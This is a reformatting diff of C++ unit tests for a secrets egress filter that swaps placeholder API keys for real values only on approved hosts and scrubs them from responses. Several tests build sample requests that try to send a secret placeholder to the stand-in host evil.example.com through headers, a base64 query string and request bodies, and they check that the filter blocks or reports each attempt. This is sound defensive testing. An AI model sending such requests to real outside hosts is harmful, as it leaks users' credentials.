@@ -74,8 +74,8 @@ class SecretsFilterTest : public ::testing::Test {
   Status SendResponse(const Exchange& exchange, const std::string& request, const std::string& bytes,
                       std::string& sandbox_got) {
     const egress::ResponseHead head = egress::Response(bytes);
-    PreparedMessage message = egress::PrepareResponse(filter_, exchange, egress::Request(request),
-                                                      bytes.substr(0, head.size), head);
+    PreparedMessage message =
+        egress::PrepareResponse(filter_, exchange, egress::Request(request), bytes.substr(0, head.size), head);
     return Relay(bytes.substr(head.size), message, sandbox_got);
   }
 
@@ -98,17 +98,24 @@ class SecretsFilterTest : public ::testing::Test {
 
 TEST_F(SecretsFilterTest, AnApprovedHostGetsTheValueInTargetHeadersBasicAuthAndAJsonBody) {
   const std::string body = std::string("{\"key\":\"") + kPlaceholder + "\"}";
-  const std::string request = std::string("POST /v1/") + kPlaceholder + "?key=%69sb_placeholder_Q7mK2xV9 HTTP/1.1\r\n"
-                              "Host: api.example.com\r\nAuthorization: Bearer " + kPlaceholder + "\r\n"
-                              "Proxy-Authorization: Basic " + Base64Encode(std::string("me:") + kPlaceholder) + "\r\n"
-                              "Content-Type: application/json\r\nContent-Length: " + std::to_string(body.size()) +
-                              "\r\n\r\n" + body;
+  const std::string request = std::string("POST /v1/") + kPlaceholder +
+                              "?key=%69sb_placeholder_Q7mK2xV9 HTTP/1.1\r\n"
+                              "Host: api.example.com\r\nAuthorization: Bearer " +
+                              kPlaceholder +
+                              "\r\n"
+                              "Proxy-Authorization: Basic " +
+                              Base64Encode(std::string("me:") + kPlaceholder) +
+                              "\r\n"
+                              "Content-Type: application/json\r\nContent-Length: " +
+                              std::to_string(body.size()) + "\r\n\r\n" + body;
   std::string got;
   ASSERT_TRUE(SendRequest(kApproved, request, got).ok());
-  const std::string head = "POST /v1/sk-live%2F%2242%22?key=sk-live%2F%2242%22 HTTP/1.1\r\nHost: api.example.com\r\n"
-                           "Authorization: Bearer sk-live/\"42\"\r\nProxy-Authorization: Basic " +
-                           Base64Encode("me:sk-live/\"42\"") + "\r\nContent-Type: application/json\r\n"
-                           "Transfer-Encoding: chunked\r\n\r\n";
+  const std::string head =
+      "POST /v1/sk-live%2F%2242%22?key=sk-live%2F%2242%22 HTTP/1.1\r\nHost: api.example.com\r\n"
+      "Authorization: Bearer sk-live/\"42\"\r\nProxy-Authorization: Basic " +
+      Base64Encode("me:sk-live/\"42\"") +
+      "\r\nContent-Type: application/json\r\n"
+      "Transfer-Encoding: chunked\r\n\r\n";
   ASSERT_EQ(got.substr(0, head.size()), head);
   EXPECT_EQ(egress::Dechunk(std::string_view(got).substr(head.size())), "{\"key\":\"sk-live/\\\"42\\\"\"}");
   EXPECT_TRUE(leaks_.empty());
@@ -116,8 +123,9 @@ TEST_F(SecretsFilterTest, AnApprovedHostGetsTheValueInTargetHeadersBasicAuthAndA
 }
 
 TEST_F(SecretsFilterTest, APlaceholderCutAcrossChunksOfAChunkedBodyIsSwapped) {
-  const std::string request = std::string("PUT /x HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: chunked\r\n\r\n") +
-                              "6\r\nisb_pl\r\n12\r\naceholder_Q7mK2xV9\r\n2\r\n!!\r\n0\r\n\r\n";
+  const std::string request =
+      std::string("PUT /x HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: chunked\r\n\r\n") +
+      "6\r\nisb_pl\r\n12\r\naceholder_Q7mK2xV9\r\n2\r\n!!\r\n0\r\n\r\n";
   std::string got;
   ASSERT_TRUE(SendRequest(kApproved, request, got).ok());
   const std::string head = "PUT /x HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: chunked\r\n\r\n";
@@ -130,23 +138,28 @@ TEST_F(SecretsFilterTest, OverPlainHttpThePlaceholderIsNeverSwappedAndTheLeakIsR
   std::string got;
   ASSERT_TRUE(SendRequest(kPlain, request, got).ok());
   EXPECT_EQ(got, request);
-  EXPECT_EQ(leaks_, (std::vector<LeakEvent>{{"sb1", "OPENAI_KEY", "api.example.com", 80, "plain http", OnLeak::kPass}}));
+  EXPECT_EQ(leaks_,
+            (std::vector<LeakEvent>{{"sb1", "OPENAI_KEY", "api.example.com", 80, "plain http", OnLeak::kPass}}));
   EXPECT_EQ(filter_.Counters("sb1"), (std::map<std::string, SecretCounters>{{"OPENAI_KEY", {0, 0, 1}}}));
 }
 
 TEST_F(SecretsFilterTest, BlockRefusesAPlaceholderHeadedForAnotherHostNamingTheSecretNotTheValue) {
   filter_.Set("sb1", OneSecret(OnLeak::kBlock));
-  const std::string request = std::string("GET / HTTP/1.1\r\nHost: evil.example.com\r\nX-Api-Key: ") + kPlaceholder + "\r\n\r\n";
+  const std::string request =
+      std::string("GET / HTTP/1.1\r\nHost: evil.example.com\r\nX-Api-Key: ") + kPlaceholder + "\r\n\r\n";
   std::string got;
   Status sent = SendRequest(kOtherHost, request, got);
   ASSERT_FALSE(sent.ok());
   EXPECT_EQ(sent.error().message, "isb: secret OPENAI_KEY may not be sent to evil.example.com");
-  EXPECT_EQ(leaks_, (std::vector<LeakEvent>{{"sb1", "OPENAI_KEY", "evil.example.com", 443, "header X-Api-Key", OnLeak::kBlock}}));
+  EXPECT_EQ(
+      leaks_,
+      (std::vector<LeakEvent>{{"sb1", "OPENAI_KEY", "evil.example.com", 443, "header X-Api-Key", OnLeak::kBlock}}));
 }
 
 TEST_F(SecretsFilterTest, BlockOverPlainHttpSaysTheSecretGoesOnlyOverHttps) {
   filter_.Set("sb1", OneSecret(OnLeak::kBlock));
-  const std::string request = std::string("GET / HTTP/1.1\r\nHost: api.example.com\r\nCookie: k=") + kPlaceholder + "\r\n\r\n";
+  const std::string request =
+      std::string("GET / HTTP/1.1\r\nHost: api.example.com\r\nCookie: k=") + kPlaceholder + "\r\n\r\n";
   std::string got;
   Status sent = SendRequest(kPlain, request, got);
   ASSERT_FALSE(sent.ok());
@@ -155,7 +168,8 @@ TEST_F(SecretsFilterTest, BlockOverPlainHttpSaysTheSecretGoesOnlyOverHttps) {
 
 TEST_F(SecretsFilterTest, StopRefusesAndReportsTheLeakForTheSandboxToBeStopped) {
   filter_.Set("sb1", OneSecret(OnLeak::kStop));
-  const std::string request = "GET /?q=" + Base64Encode(std::string("x") + kPlaceholder) + " HTTP/1.1\r\nHost: evil.example.com\r\n\r\n";
+  const std::string request =
+      "GET /?q=" + Base64Encode(std::string("x") + kPlaceholder) + " HTTP/1.1\r\nHost: evil.example.com\r\n\r\n";
   std::string got;
   Status sent = SendRequest(kOtherHost, request, got);
   ASSERT_FALSE(sent.ok());
@@ -166,8 +180,8 @@ TEST_F(SecretsFilterTest, StopRefusesAndReportsTheLeakForTheSandboxToBeStopped) 
 TEST_F(SecretsFilterTest, APlaceholderInTheBodyForAnotherHostCutsTheBodyBeforeItUnderBlock) {
   filter_.Set("sb1", OneSecret(OnLeak::kBlock));
   const std::string body = std::string(40, 'a') + kPlaceholder + "zz";
-  const std::string request = "POST / HTTP/1.1\r\nHost: evil.example.com\r\nContent-Length: " + std::to_string(body.size()) +
-                              "\r\n\r\n" + body;
+  const std::string request =
+      "POST / HTTP/1.1\r\nHost: evil.example.com\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
   std::string got;
   Status sent = SendRequest(kOtherHost, request, got);
   ASSERT_FALSE(sent.ok());
@@ -179,8 +193,8 @@ TEST_F(SecretsFilterTest, APlaceholderInTheBodyForAnotherHostCutsTheBodyBeforeIt
 
 TEST_F(SecretsFilterTest, UnderPassABodyForAnotherHostGoesUnchangedAndIsReportedOnce) {
   const std::string body = std::string(kPlaceholder) + " " + kPlaceholder;
-  const std::string request = "POST / HTTP/1.1\r\nHost: evil.example.com\r\nContent-Length: " + std::to_string(body.size()) +
-                              "\r\n\r\n" + body;
+  const std::string request =
+      "POST / HTTP/1.1\r\nHost: evil.example.com\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
   std::string got;
   ASSERT_TRUE(SendRequest(kOtherHost, request, got).ok());
   const std::string head = "POST / HTTP/1.1\r\nHost: evil.example.com\r\nTransfer-Encoding: chunked\r\n\r\n";
@@ -194,11 +208,12 @@ const char kGet[] = "GET / HTTP/1.1\r\nHost: api.example.com\r\n\r\n";
 
 TEST_F(SecretsFilterTest, AResponseHasTheValueScrubbedFromHeadersAndItsJsonEscapedFormFromTheBody) {
   const std::string body = "{\"echo\":\"sk-live\\/\\\"42\\\"\",\"raw\":\"sk-live%2F%2242%22\"}";
-  const std::string response = "HTTP/1.1 200 OK\r\nX-Echo: sk-live/\"42\"\r\nContent-Length: " +
-                               std::to_string(body.size()) + "\r\n\r\n" + body;
+  const std::string response =
+      "HTTP/1.1 200 OK\r\nX-Echo: sk-live/\"42\"\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
   std::string got;
   ASSERT_TRUE(SendResponse(kApproved, kGet, response, got).ok());
-  const std::string head = std::string("HTTP/1.1 200 OK\r\nX-Echo: ") + kPlaceholder + "\r\nTransfer-Encoding: chunked\r\n\r\n";
+  const std::string head =
+      std::string("HTTP/1.1 200 OK\r\nX-Echo: ") + kPlaceholder + "\r\nTransfer-Encoding: chunked\r\n\r\n";
   ASSERT_EQ(got.substr(0, head.size()), head);
   EXPECT_EQ(egress::Dechunk(std::string_view(got).substr(head.size())),
             std::string("{\"echo\":\"") + kPlaceholder + "\",\"raw\":\"" + kPlaceholder + "\"}");
@@ -235,13 +250,14 @@ std::string Gunzip(std::string_view data) {
 
 TEST_F(SecretsFilterTest, AGzipResponseIsScrubbedAndStaysGzip) {
   const std::string body = Gzip(std::string("echo: ") + kValue + " end");
-  const std::string response = "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: " +
-                               std::to_string(body.size()) + "\r\n\r\n" + body;
+  const std::string response =
+      "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
   std::string got;
   ASSERT_TRUE(SendResponse(kApproved, kGet, response, got).ok());
   const std::string head = "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n";
   ASSERT_EQ(got.substr(0, head.size()), head);
-  EXPECT_EQ(Gunzip(egress::Dechunk(std::string_view(got).substr(head.size()))), std::string("echo: ") + kPlaceholder + " end");
+  EXPECT_EQ(Gunzip(egress::Dechunk(std::string_view(got).substr(head.size()))),
+            std::string("echo: ") + kPlaceholder + " end");
 }
 
 TEST_F(SecretsFilterTest, AResponseInACodingIsbCannotReadIsCutAfterItsHead) {
@@ -250,13 +266,15 @@ TEST_F(SecretsFilterTest, AResponseInACodingIsbCannotReadIsCutAfterItsHead) {
   Status sent = SendResponse(kApproved, kGet, response, got);
   ASSERT_FALSE(sent.ok());
   EXPECT_EQ(sent.error().code, Code::kForbidden);
-  EXPECT_EQ(sent.error().message,
-            "isb: the body cannot be scrubbed of secrets: content coding \"compress\" is not one of gzip, deflate, br, zstd");
+  EXPECT_EQ(
+      sent.error().message,
+      "isb: the body cannot be scrubbed of secrets: content coding \"compress\" is not one of gzip, deflate, br, zstd");
   EXPECT_EQ(got, "HTTP/1.1 200 OK\r\nContent-Encoding: compress\r\nTransfer-Encoding: chunked\r\n\r\n");
 }
 
 TEST_F(SecretsFilterTest, ANewValueTakesEffectOnTheNextMessageAndARemovedSandboxGetsNothingSwapped) {
-  const std::string request = std::string("GET / HTTP/1.1\r\nHost: api.example.com\r\nX-Key: ") + kPlaceholder + "\r\n\r\n";
+  const std::string request =
+      std::string("GET / HTTP/1.1\r\nHost: api.example.com\r\nX-Key: ") + kPlaceholder + "\r\n\r\n";
   SandboxSecrets next = OneSecret(OnLeak::kPass);
   next.bindings[0].value = "v2";
   filter_.Set("sb1", next);
